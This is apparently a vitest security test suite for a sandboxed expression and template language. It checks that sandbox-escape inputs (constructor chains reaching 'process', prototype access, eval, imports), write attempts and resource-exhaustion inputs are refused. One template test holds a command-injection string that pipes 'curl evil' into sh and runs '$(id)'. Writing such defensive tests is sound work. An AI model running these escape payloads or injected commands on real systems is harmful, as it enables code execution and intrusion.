/** Inputs written by somebody who wants out of the language, or wants to stop the process. */
import { describe, expect, it } from 'vitest';
import { CoordError } from '../../src/core/errors.js';
import type { JsonValue } from '../../src/core/json.js';
import { parseExpression } from '../../src/expression/expression.js';
import { EXPRESSION_LIMITS } from '../../src/expression/limits.js';
import { ExpressionError } from '../../src/expression/problem.js';
import type { Scope } from '../../src/expression/scope.js';
import { parseTemplate } from '../../src/expression/template.js';
import { sampleScope } from './sample-scope.js';

function refusal(source: string): string {
  try {
    parseExpression(source);
  } catch (error) {
    if (error instanceof ExpressionError) return error.problem.message;
    throw error;
  }
  return 'accepted';
}

function withTask(task: { readonly [key: string]: JsonValue }): Scope {
  return { ...sampleScope(), task };
}

describe('S1, S2: ways out of the data', () => {
  it.each([
    ['task.constructor'],
    ['task["__proto__"]'],
    ["task['constructor']"],
    ['task.toString'],
    ['task.valueOf()'],
    ['task.hasOwnProperty("x")'],
    ['task.tags.map.constructor'],
    ['task.\\u{63}onstructor'],
    ["task['\\x63onstructor']"],
    ['"".constructor.constructor("return process")()'],
    ['task.tags.filter.call(task)'],
    ['`${this}`'],
    ['import("node:fs")'],
    ['globalThis'],
    ['arguments'],
    ['arguments[0]'],
    ['process.env'],
    ['eval("1")'],
    ['Function("return 1")()'],
    ['(() => 1)()'],
    ['(function () { return this })()'],
    ['task.tags.some(function (x) { return x })'],
    ['task.tags.some(([a]) => a)'],
    ['task.tags.some(({ constructor }) => constructor)'],
    ['task.tags.some((x = process) => x)'],
    ['task.tags.some((...constructor) => 1)'],
    ['context.state.get.constructor'],
    ['context.state.constructor'],
    ['context["state"].get("x")'],
    ['context.state["get"]("x")'],
    ['task.tags["map"](x => x)'],
    ['super.x'],
    ['new.target'],
    ['yield'],
    ['<!-- x'],
    ['#!x'],
  ])('%s is refused before it is evaluated', (source) => {
    expect(refusal(source)).not.toBe('accepted');
  });

  it.each([
    ["task['con' + 'structor']"],
    ["task['__pro' + 'to__']"],
    ['task[`${"proto"}type`]'],
    ["task.tags['const' + 'ructor']"],
    ["task.slug['to' + 'String']"],
    ["['constructor'].map(k => task[k])"],
  ])('%s fails when it is computed', (source) => {
    expect(() => parseExpression(source).evaluate(sampleScope())).toThrow(CoordError);
  });

  it('reads own properties only', () => {
    const inherited = Object.create({ secret: 1 }) as { [key: string]: JsonValue };
    expect(parseExpression('task.secret').evaluate(withTask(inherited))).toBeUndefined();
    const own = JSON.parse('{"__proto__": {"admin": true}}') as { [key: string]: JsonValue };
    expect(parseExpression('task.admin').evaluate(withTask(own))).toBeUndefined();
    expect(({} as { admin?: boolean }).admin).toBeUndefined();
  });
});

describe('S3: writing', () => {
  it.each([
    ['task = 1'],
    ['task.role = "admin"'],
    ['delete task.role'],
    ['task.score++'],
    ['--task.score'],
    ['task.score += 1'],
    ['task.x ??= 1'],
    ['task.tags.push(1)'],
    ['task.tags.sort()'],
    ['task.tags.reverse()'],
    ['task.tags.splice(0)'],
    ['context.state.set("a", 1)'],
    ['context.state.delete("a")'],
    ['[task.score] = [1]'],
  ])('%s is refused', (source) => {
    expect(refusal(source)).not.toBe('accepted');
  });

  it('is impossible: what is sliced, filtered or mapped is a new list', () => {
    const scope = sampleScope();
    const before = JSON.stringify(scope);
    for (const source of ['task.tags.slice(0)', 'task.tags.filter(t => true)', 'task.owners.map(o => o)']) {
      expect(parseExpression(source).evaluate(scope)).not.toBe(scope.task['tags']);
    }
    expect(JSON.stringify(scope)).toBe(before);
  });
});

describe('S5: work without end', () => {
  const list = Array.from({ length: 10 }, (_, index) => index);

  function cost(source: string, scope: Scope): { message: string; ms: number } {
    const expression = parseExpression(source);
    const start = performance.now();
    try {
      expression.evaluate(scope);
    } catch (error) {
      return { message: (error as Error).message, ms: performance.now() - start };
    }
    return { message: 'finished', ms: performance.now() - start };
  }

  it('ends nested callbacks at the budget', () => {
    const names = ['a', 'b', 'c', 'd', 'e', 'f', 'g', 'h'];
    const source = names.reduceRight((inner, name) => `task.list.every(${name} => ${inner})`, 'true');
    const { message, ms } = cost(source, withTask({ list }));
    expect(message).toMatch(/takes more than 10000 steps/);
    expect(ms).toBeLessThan(3_000);
  });

  it('ends texts that double', () => {
    const double = (text: string): string => `[${text}].map(x => x + x)[0]`;
    let source = 'task.text';
    for (let index = 0; index < 10; index++) source = double(source);
    const { message, ms } = cost(source, withTask({ text: 'x'.repeat(1_000) }));
    expect(message).toMatch(/characters would be made, more than 102400|more than 10000 steps/);
    expect(ms).toBeLessThan(3_000);
  });

  it('ends searches whose cost is the product of two lengths', () => {
    const text = 'a'.repeat(250_000);
    const { message, ms } = cost(
      'task.list.some(i => task.text.includes(task.wanted))',
      withTask({ list, text, wanted: `b${'a'.repeat(100_000)}` }),
    );
    expect(message).toMatch(/more than 10000 steps/);
    expect(ms).toBeLessThan(3_000);
  });

  it('ends comparisons and joins of long texts in a loop', () => {
    const long = Array.from({ length: 2_000 }, () => 1);
    const text = 'a'.repeat(200_000);
    const scope = withTask({ long, a: `${text}b`, b: `${text}c` });
    for (const source of [
      'task.long.every(i => task.a !== task.b)',
      'task.long.every(i => task.a < task.b)',
      'task.long.every(i => task.a.toLowerCase())',
      'task.long.every(i => task.long.join().length > 0)',
    ]) {
      const { message, ms } = cost(source, scope);
      expect(message).toMatch(/more than 10000 steps|characters would be made/);
      expect(ms).toBeLessThan(3_000);
    }
  });
});

describe('S6: size and depth', () => {
  it.each([
    ['5,000 parentheses', `${'('.repeat(5_000)}1${')'.repeat(5_000)}`],
    ['100,000 parentheses', `${'('.repeat(100_000)}1${')'.repeat(100_000)}`],
    ['unclosed parentheses', '('.repeat(1_999)],
    ['nested lists', `${'['.repeat(900)}${']'.repeat(900)}`],
    ['nested templates', `${'`${'.repeat(600)}1${'}`'.repeat(600)}`],
    ['a megabyte', `'${'x'.repeat(1_000_000)}'`],
    ['a sum of 20,000 terms', Array.from({ length: 20_000 }, () => '1').join('+')],
    ['a sum of 900 terms', Array.from({ length: 900 }, () => '1').join('+')],
    ['1,990 negations', `${'!'.repeat(1_990)}1`],
    ['signs', `${'- '.repeat(990)}1`],
    ['arrows', `${'a=>'.repeat(600)}1`],
    ['ternaries', `${'1?1:'.repeat(490)}1`],
    ['powers', `${'1**'.repeat(600)}1`],
    ['members', `task${'.a'.repeat(900)}`],
    ['calls', `task${'.trim()'.repeat(280)}`],
    ['a regular expression', `/${'('.repeat(990)}${')'.repeat(990)}/`],
    ['new', `${'new '.repeat(490)}x`],
    ['quotes and parentheses', `'${'('.repeat(900)}' + ${'('.repeat(900)}`],
  ])('%s', (_name, source) => {
    const start = performance.now();
    expect(refusal(source)).toMatch(/more than|deeper than|not part of|regular expression|early/);
    expect(performance.now() - start).toBeLessThan(3_000);
  });

  it('accepts what is just below the limits', () => {
    const deep = EXPRESSION_LIMITS.depth;
    expect(refusal(`${'('.repeat(deep)}1${')'.repeat(deep)}`)).toBe('accepted');
    expect(refusal(`${'('.repeat(deep + 1)}1${')'.repeat(deep + 1)}`)).toMatch(/nested deeper than 64/);
    expect(refusal(Array.from({ length: 100 }, () => '1').join('+'))).toBe('accepted');
    expect(refusal(`'${'('.repeat(1_990)}'`)).toBe('accepted');
  });
});

describe('S13: values that look like templates', () => {
  it('are rendered once', () => {
    expect(parseTemplate('{{task.note}}').render(sampleScope())).toBe('{{ task.slug }} and ${task.slug}');
    expect(parseTemplate('a {{task.note}} b').render(sampleScope())).toBe('a {{ task.slug }} and ${task.slug} b');
    expect(parseTemplate("{{ '{{' }}task.slug{{ '}}' }}").render(sampleScope())).toBe('{{task.slug}}');
  });

  it('keep every byte', () => {
    const evil = '"; curl evil | sh #\n$(id) `id` --flag \u0000 \r\n';
    expect(parseTemplate('{{task.x}}').render(withTask({ x: evil }))).toBe(evil);
    expect(parseTemplate('<{{task.x}}>').render(withTask({ x: evil }))).toBe(`<${evil}>`);
  });
});
